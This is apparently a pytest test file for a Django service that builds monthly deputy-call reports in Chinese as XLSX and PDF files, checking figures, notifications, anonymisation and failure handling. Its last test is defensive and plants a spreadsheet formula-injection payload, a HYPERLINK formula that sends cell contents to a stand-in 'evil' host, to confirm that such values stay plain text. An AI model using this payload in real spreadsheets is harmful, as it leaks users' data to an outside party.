"""The monthly report (月度报告): generated through the service from orders made through the
services, stored with its two files, announced to the liaison officers; a failure leaves no
READY report; the month's row is one, however often it is generated."""

from __future__ import annotations

import io
from datetime import date

import openpyxl
import pytest
from pypdf import PdfReader

from minyi.accounts.models import Role
from minyi.core import clock
from minyi.core.errors import DomainError
from minyi.ledger.models import MonthlyReport, ReportEvent, ReportState
from minyi.ledger.reports import pdf as report_pdf
from minyi.ledger.reports import services
from minyi.notify.models import OutboxMessage
from minyi.orders.models import Channel
from tests.factories import CategoryFactory, DeputyFactory, UserFactory, at, make_order

pytestmark = pytest.mark.django_db

NOVEMBER = date(2026, 11, 1)
DECEMBER_2 = at(2026, 12, 2, 9)


@pytest.fixture
def lena(db):
    """Lena the liaison officer (联工委)."""
    return UserFactory(username="lena", last_name="林", first_name="娜", role=Role.LIAISON)


@pytest.fixture
def november(dept_a, dept_b):
    """Deputy calls in November 2026 (and one in October, one in November 2025), one citizen
    call that the report leaves out."""
    deputy = DeputyFactory(name="谭萍")
    roads = CategoryFactory(name="城乡建设")
    call = {"channel": Channel.DEPUTY_CALL, "deputy": deputy}
    orders = [
        make_order("archived", at=at(2026, 11, 3, 9), lead=dept_a, category=roads, **call),
        make_order("archived", at=at(2026, 11, 4, 9), lead=dept_a, category=roads, **call),
        make_order("signed", at=at(2026, 11, 20, 9), lead=dept_b, title="路灯不亮", **call),
        make_order("accepted", at=at(2026, 11, 28, 9), **call),
    ]
    make_order("archived", at=at(2026, 10, 9, 9), lead=dept_a, **call)
    make_order("archived", at=at(2025, 11, 9, 9), lead=dept_a, **call)
    make_order("archived", at=at(2026, 11, 9, 9), lead=dept_a)  # a citizen's call
    return orders


def generate(month=NOVEMBER, actor=None, now=DECEMBER_2):
    with clock.frozen(now):
        return services.report_generate(month=month, actor=actor)


def test_the_service_stores_the_months_figures_and_both_files(november, lena):
    report = generate(actor=lena)

    report.refresh_from_db()
    assert report.state == ReportState.READY and report.generated_by == lena
    assert report.summary["totals"] == {"orders": 4, "accepted": 4, "closed": 2, "in_progress": 2}
    by = {block["key"]: block["rows"] for block in report.summary["by"]}
    assert {row["label"]: row["orders"] for row in by["lead_department"]} == {
        "市城市管理和综合执法局": 2,
        "市住房和城乡建设局": 1,
        "未派单": 1,
    }
    assert {row["label"]: row["orders"] for row in by["category"]}["城乡建设"] == 2
    assert [(row["label"], row["orders"]) for row in by["deputy_level"]] == [("市", 4)]
    assert [(row["label"], row["orders"]) for row in by["channel"]] == [("代表来电", 4)]
    assert report.xlsx.name.endswith(".xlsx") and report.pdf.name.endswith(".pdf")
    assert list(ReportEvent.objects.values_list("kind", flat=True)) == ["generated"]


def test_the_xlsx_opens_with_the_report_sheet_and_the_full_lists(november):
    report = generate()

    book = openpyxl.load_workbook(io.BytesIO(report.xlsx.read()))
    assert book.sheetnames == [
        "报告",
        "超期工单",
        "督办工单",
        "重办工单",
        "尚未解决工单",
        "典型案例",
    ]
    sheet = book["报告"]
    assert sheet["A1"].value == "2026年11月人大代表履职工作月度报告"
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert ["登记", "受理", "办结", "办理中", None, None] in values
    assert [4, 4, 2, 2, None, None] in values
    assert ["市城市管理和综合执法局", 2, 2, 2, 0, None] in values


def test_the_pdf_holds_the_chinese_names_and_departments(november):
    report = generate()

    text = "".join(page.extract_text() for page in PdfReader(report.pdf.open("rb")).pages)
    assert "2026年11月人大代表履职工作月度报告" in text
    assert "市城市管理和综合执法局" in text and "城乡建设" in text
    assert "按时签收率" in text and "样本不足" in text
    assert "第1页" in "".join(text.split())


def test_the_rates_stand_beside_the_previous_month_and_the_same_month_last_year(dept_a):
    deputy = DeputyFactory(name="谭萍")
    call = {"channel": Channel.DEPUTY_CALL, "deputy": deputy, "lead": dept_a}
    for day in range(10):
        make_order("archived", at=at(2026, 10, 5 + day, 9), **call)
        make_order("archived", at=at(2025, 11, 5 + day, 9), **call)
        make_order("archived", at=at(2026, 11, 5 + day, 9), **call)

    report = generate()

    satisfaction = next(r for r in report.summary["rates"] if r["key"] == "satisfaction_rate")
    assert satisfaction["value"] == 1.0
    assert satisfaction["previous"] == 1.0 and satisfaction["year_before"] == 1.0
    assert report.summary["previous_month"] == "2026-10"
    assert report.summary["year_before_month"] == "2025-11"
    sheet = openpyxl.load_workbook(io.BytesIO(report.xlsx.read()))["报告"]
    rows = [[cell.value for cell in row][:5] for row in sheet.iter_rows()]
    assert ["指标", "本月", "分子/分母", "上月（2026-10）", "去年同期（2025-11）"] in rows
    assert ["满意率", 1, "10/10", 1, 1] in rows
    assert ["退件率", 0, "0/10", 0, 0] in rows
    text = "".join(page.extract_text() for page in PdfReader(report.pdf.open("rb")).pages)
    assert "上月（2026-10）" in text and "去年同期（2025-11）" in text
    assert "满意率100.00%（上月100.00%）" in "".join(text.split())


def test_the_liaison_officers_are_told_in_the_app_once(november, lena):
    gone = UserFactory(username="gone", role=Role.LIAISON, is_active=False)
    UserFactory(username="dora", role=Role.DISPATCHER)

    generate(actor=lena)
    generate(actor=lena, now=at(2026, 12, 3, 9))  # regenerated: not announced again

    notices = OutboxMessage.objects.filter(template_code="monthly_report_ready")
    assert [n.recipient_user for n in notices] == [lena]
    assert notices[0].body == "2026年11月人大代表履职工作月度报告已生成，请查阅。"
    assert notices[0].params["period"] == "2026-11"
    assert gone not in [n.recipient_user for n in notices]


def test_regenerating_replaces_the_files_and_adds_an_event(november):
    first = generate()
    old_pdf = first.pdf.name

    second = generate(now=at(2026, 12, 3, 9))

    assert MonthlyReport.objects.count() == 1
    assert second.pdf.name != old_pdf
    assert ReportEvent.objects.filter(kind="generated").count() == 2


@pytest.mark.parametrize("month", [date(2026, 12, 1), date(2027, 1, 1)])
def test_the_current_or_a_future_month_is_refused(month):
    with pytest.raises(DomainError, match="尚未"):
        generate(month=month)

    assert not MonthlyReport.objects.exists()


def test_a_failed_generation_leaves_no_ready_report(november, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("字体缺失")

    monkeypatch.setattr(report_pdf, "render", broken)

    with pytest.raises(services.ReportFailed) as refused:
        generate()

    assert str(refused.value) == "2026年11月报告生成失败，请稍后重试或联系系统管理员。"

    report = MonthlyReport.objects.get()
    assert report.state == ReportState.FAILED and "字体缺失" in report.error
    assert not report.xlsx and not report.pdf and report.summary == {}
    assert list(ReportEvent.objects.values_list("kind", flat=True)) == ["failed"]
    assert not OutboxMessage.objects.filter(template_code="monthly_report_ready").exists()


def test_the_lists_show_titles_as_a_liaison_officer_is_shown_them(dept_a):
    deputy = DeputyFactory(name="谭萍")
    make_order(
        "signed",
        at=at(2026, 11, 3, 9),
        lead=dept_a,
        channel=Channel.DEPUTY_CALL,
        deputy=deputy,
        is_anonymous=True,
        requester_name="谭萍",
        title="谭萍反映路灯不亮",
    )

    report = generate()

    overdue = next(block for block in report.summary["lists"] if block["key"] == "overdue")
    assert [row["title"] for row in overdue["rows"]] == ["〔保密〕反映路灯不亮"]
    assert overdue["rows"][0]["deputy"] == "匿名"
    levels = next(block for block in report.summary["by"] if block["key"] == "deputy_level")
    assert [row["label"] for row in levels["rows"]] == ["匿名（不显示层级）"]
    text = "".join(page.extract_text() for page in PdfReader(report.pdf.open("rb")).pages)
    assert "谭萍" not in text


def test_a_long_list_is_capped_in_the_report_and_whole_in_its_own_sheet(november, monkeypatch):
    from minyi.ledger.reports import figures

    make_order(
        "signed",
        at=at(2026, 11, 21, 9),
        channel=Channel.DEPUTY_CALL,
        deputy=DeputyFactory(name="李四"),
        title="井盖缺失",
    )
    monkeypatch.setattr(figures, "LIST_CAP", 1)

    report = generate()

    overdue = next(block for block in report.summary["lists"] if block["key"] == "overdue")
    assert overdue["total"] == 2 and len(overdue["rows"]) == 1
    book = openpyxl.load_workbook(io.BytesIO(report.xlsx.read()))
    report_sheet = [cell.value for row in book["报告"].iter_rows() for cell in row]
    assert "另有 1 件，见“超期工单”表" in report_sheet
    titles = [row[2].value for row in book["超期工单"].iter_rows(min_row=2)]
    assert titles == ["路灯不亮", "井盖缺失"]


def test_a_failed_regeneration_keeps_the_report_that_was_ready(november, monkeypatch):
    first = generate()
    monkeypatch.setattr(report_pdf, "render", lambda *a, **k: 1 / 0)

    with pytest.raises(services.ReportFailed):
        generate(now=at(2026, 12, 3, 9))

    report = MonthlyReport.objects.get()
    assert report.state == ReportState.READY and "ZeroDivisionError" in report.error
    assert report.pdf.name == first.pdf.name and report.pdf.storage.exists(report.pdf.name)
    assert report.summary == first.summary
    assert list(ReportEvent.objects.values_list("kind", flat=True)) == ["generated", "failed"]


def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(dept_a):
    from minyi.reference.models import Department

    Department.objects.filter(pk=dept_a.pk).update(name='=HYPERLINK("http://evil/?"&A1,"点击")')
    make_order(
        "archived",
        at=at(2026, 11, 3, 9),
        lead=dept_a,
        title="=1+2",
        **{"channel": Channel.DEPUTY_CALL, "deputy": DeputyFactory(name="谭萍")},
    )

    report = generate()

    book = openpyxl.load_workbook(io.BytesIO(report.xlsx.read()))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert '=HYPERLINK("http://evil/?"&A1,"点击")' in [cell.value for cell in cells]
